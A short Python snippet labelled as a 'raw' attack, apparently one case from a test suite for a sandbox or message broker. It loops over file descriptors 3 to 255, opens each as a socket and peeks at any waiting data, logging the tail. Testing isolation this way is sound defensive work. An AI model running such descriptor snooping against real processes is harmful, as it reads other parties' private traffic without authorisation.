# attack: raw | peeks at what waits in every descriptor it can name
import json, os, struct
def send(body, payload=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.write(BROKER_FD, struct.pack("<II", len(body), len(payload)) + body + payload)
import socket
for number in range(3, 256):
    try:
        waiting = socket.socket(fileno=os.dup(number)).recv(65536, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        log(waiting.decode("latin-1")[-150:])
    except OSError:
        pass
